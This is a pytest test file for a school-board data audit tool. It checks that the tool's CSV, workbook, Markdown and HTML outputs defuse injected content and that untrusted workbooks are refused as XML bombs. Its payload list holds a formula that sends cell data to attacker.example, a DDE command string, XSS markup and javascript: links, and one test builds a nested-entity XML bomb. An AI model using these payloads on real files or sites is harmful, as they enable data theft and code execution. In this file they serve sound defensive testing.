"""Nothing the tool writes can attack the person who opens it, and untrusted workbooks are read
with XML-bomb protection.

An export whose names, streets and emails are attack strings (OWASP CSV injection, markup,
``javascript:`` links) goes through every command; then every workbook, CSV, Markdown and HTML
file the tool wrote is opened and searched for a live formula or live markup. The fixed export
itself is the SIS's own data for re-import and is left as the SIS wrote it; the files the tool
adds beside it (changes.csv, retired_contacts.csv) are checked.
"""

from __future__ import annotations

import csv
import io
import re
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from audits.cli import main
from audits.errors import UserError
from audits.loading import load_board

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "<script>alert('x')</script>", '"><img src=x onerror=alert(1)>',
            "javascript:alert(1)", "</script><svg onload=alert(1)>"]
RISKY_START = ("=", "+", "-", "@", "\t", "\r")
CORPUS = Path(__file__).parent / "data" / "bad"


def run(*args: str):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code in (0, 1), result.output
    return result


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A small sample board whose people carry attack strings, and every output of it."""
    root = tmp_path_factory.mktemp("hostile")
    board = root / "board"
    run("sample", board, "--students", "300", "--seed", "5")
    contacts = pd.read_csv(board / "contacts.csv", dtype=str, keep_default_na=False)
    # Attack strings lead the names (a spreadsheet looks only at the first character) and
    # the same string goes to both records of a household so the duplicates are still found.
    payload = contacts["last_name"].map(lambda name: PAYLOADS[zlib.crc32(name.encode())
                                                               % len(PAYLOADS)])
    contacts["first_name"] = payload + contacts["first_name"]
    contacts["street"] = payload + " " + contacts["street"]
    contacts.to_csv(board / "contacts.csv", index=False, lineterminator="\r\n")
    schools = pd.read_csv(board / "schools.csv", dtype=str, keep_default_na=False)
    schools["school_name"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(schools))]
    schools.to_csv(board / "schools.csv", index=False, lineterminator="\r\n")

    out = root / "out"
    run("audit", board, "--out", out, "--quiet")
    run("preview", board, "--out", root / "preview.csv")
    run("fix", "plan", out / "findings.json", "--out", root / "plan.json")
    run("fix", "apply", root / "plan.json", board, "--out", root / "fixed", "--write", "--force",
        "--apply-rest")
    return root


def written_files(root: Path, suffixes: tuple[str, ...]) -> list[Path]:
    board_tables = {p.name for p in (root / "board").glob("*.csv")}
    files = []
    for path in sorted(root.rglob("*")):
        if path.suffix not in suffixes or root / "board" in path.parents:
            continue
        if root / "fixed" in path.parents and path.name in board_tables:
            continue  # the fixed export: the SIS's own data, byte-for-byte where untouched
        files.append(path)
    return files


def test_the_outputs_carry_the_attack_strings(hostile):
    text = (hostile / "out" / "findings.json").read_text(encoding="utf-8")
    assert any(m in text for m in ("HYPERLINK", "=1+1", "@SUM", "+1+cmd")), "no formula reached"
    assert any(m in text for m in ("<script", "onerror", "<svg")), "no markup reached"
    assert (hostile / "fixed" / "changes.csv").exists()


def test_no_csv_the_tool_writes_has_a_cell_a_spreadsheet_would_run(hostile):
    files = written_files(hostile, (".csv",))
    assert {p.name for p in files} >= {"preview.csv", "changes.csv"}
    risky = []
    for path in files:
        text = path.read_bytes().decode("utf-8-sig")
        for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
            risky += [(path.name, number, cell) for cell in row if cell.startswith(RISKY_START)]
    assert not risky, risky[:5]


def test_no_workbook_the_tool_writes_has_a_formula(hostile):
    files = written_files(hostile, (".xlsx",))
    assert [p.name for p in files] == ["audit.xlsx"]
    seen = 0
    for path in files:
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value.startswith(RISKY_START):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                        seen += 1
    assert seen, "attack strings must show in the workbook, as text"


def test_markdown_runbooks_show_attack_strings_as_text(hostile):
    files = written_files(hostile, (".md",))
    assert files
    for path in files:
        text = path.read_text(encoding="utf-8")
        # CommonMark reads a backslashed "<" as a literal "<": only a bare one opens a tag.
        assert not re.search(r"(?<!\\)<[A-Za-z/!]", text), path.name
        assert not re.search(r"javascript:", text, re.IGNORECASE), path.name
        assert "](javascript" not in text.lower()


def test_html_pages_escape_markup_and_links(hostile):
    files = written_files(hostile, (".html",))
    assert {p.name for p in files} >= {"audit.html", "index.html"}
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert "<script>alert" not in text, path.name
        assert "<img src=x" not in text and "<svg onload" not in text, path.name
        assert not re.search(r"""(?:href|src|action)\s*=\s*["']?\s*javascript:""", text,
                             re.IGNORECASE), path.name
        assert not re.search(r"<[^>]*\sonerror\s*=", text), path.name


def test_runbook_pages_show_the_names_escaped(hostile):
    pages = [p for p in written_files(hostile, (".html",)) if "runbooks" in p.parts
             and p.name != "index.html"]
    assert pages
    text = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert "&lt;script&gt;" in text or "&lt;/script&gt;" in text or "&#34;&gt;&lt;img" in text \
        or "&lt;img" in text


# --- XML bombs ---------------------------------------------------------------------------------

def test_workbooks_are_parsed_with_defusedxml():
    import defusedxml  # noqa: F401 - the protection openpyxl relies on must be installed

    assert openpyxl.DEFUSEDXML is True


def test_a_billion_laughs_workbook_is_refused_not_expanded():
    with pytest.raises(UserError) as raised:
        load_board(CORPUS / "xlsx_billion_laughs" / "board.xlsx")
    [problem] = raised.value.problems
    assert problem.kind == "unreadable-workbook" and "XML bomb" in problem.message


def test_an_entity_in_the_shared_strings_is_refused_too(tmp_path):
    import zipfile

    from test_loading import board_tables, write_xlsx_board

    path = write_xlsx_board(tmp_path / "b.xlsx", board_tables())
    with zipfile.ZipFile(path) as source:
        contents = {i.filename: source.read(i.filename) for i in source.infolist()}
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in contents else "xl/workbook.xml"
    xml = contents[part]
    declaration_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    contents[part] = (xml[:declaration_end] + b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                      b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + xml[declaration_end:])
    with zipfile.ZipFile(path, "w") as target:
        for name, data in contents.items():
            target.writestr(name, data)
    with pytest.raises(UserError) as raised:
        load_board(path)
    assert "XML bomb" in raised.value.render()


# --- atomic outputs, and the export is never modified ------------------------------------------

REPORTS = ("findings.json", "audit.xlsx", "audit.html")


def leftovers(folder: Path) -> list[str]:
    """Temporary files a writer left behind (they start with a dot)."""
    return sorted(p.name for p in folder.rglob(".*") if p.is_file())


@pytest.fixture(scope="module")
def small_board(tmp_path_factory) -> Path:
    board = tmp_path_factory.mktemp("small") / "board"
    run("sample", board, "--students", "200", "--seed", "3")
    return board


def test_a_crash_while_a_report_is_written_leaves_no_half_report(small_board, tmp_path,
                                                                 monkeypatch):
    real = Path.write_text

    def half_then_crash(self, text, *args, **kwargs):
        if self.name.startswith(".audit.html."):
            real(self, text[: len(text) // 2], *args, **kwargs)
            raise KeyboardInterrupt("power cut while writing audit.html")
        return real(self, text, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", half_then_crash)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["audit", str(small_board), "--out", str(out), "--quiet"])
    assert result.exit_code == 130  # interrupted, not "findings found"
    assert not (out / "audit.html").exists()
    assert leftovers(out) == []
    # The outputs are swapped in as one set: none of them, not even the finished findings.json.
    assert not (out / "findings.json").exists() and not (out / "runbooks").exists()


@pytest.mark.parametrize("failing", REPORTS)
def test_an_interrupted_rename_leaves_no_report_that_looks_finished(small_board, tmp_path,
                                                                    monkeypatch, failing):
    import os

    real = os.replace

    def replace(source, target, *args, **kwargs):
        if Path(target).name == failing:
            raise OSError("disk full")
        return real(source, target, *args, **kwargs)

    monkeypatch.setattr(os, "replace", replace)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["audit", str(small_board), "--out", str(out), "--quiet"])
    assert result.exit_code != 0
    assert not (out / failing).exists()
    assert leftovers(out) == []


def test_preview_csv_is_written_atomically(small_board, tmp_path, monkeypatch):
    import os

    monkeypatch.setattr(os, "replace", lambda *a, **k: (_ for _ in ()).throw(OSError("full")))
    result = CliRunner().invoke(main, ["preview", str(small_board), "--out",
                                       str(tmp_path / "preview.csv")])
    assert result.exit_code != 0
    assert list(tmp_path.iterdir()) == []


def digests(path: Path) -> dict[str, str]:
    import hashlib

    files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


@pytest.mark.parametrize("xlsx", [False, True], ids=["csv-folder", "workbook"])
def test_no_command_modifies_the_export(tmp_path, xlsx):
    board = tmp_path / "board"
    run("sample", board, "--students", "200", "--seed", "9", *(["--xlsx"] if xlsx else []))
    if xlsx:
        board = next(board.glob("*.xlsx"))
    before = digests(board)
    out = tmp_path / "out"
    run("audit", board, "--out", out, "--quiet")
    run("check", board)
    run("preview", board, "--out", tmp_path / "preview.csv")
    run("fix", "plan", out / "findings.json", "--out", tmp_path / "plan.json")
    run("fix", "apply", tmp_path / "plan.json", board, "--out", tmp_path / "dry")
    run("fix", "apply", tmp_path / "plan.json", board, "--out", tmp_path / "fixed", "--write",
        "--force", "--apply-rest")
    run("fix", "undo", tmp_path / "fixed", "--out", tmp_path / "restored")
    assert digests(board) == before
    # And undo gives the export back, byte for byte.
    assert set(before.values()) <= set(digests(tmp_path / "restored").values())
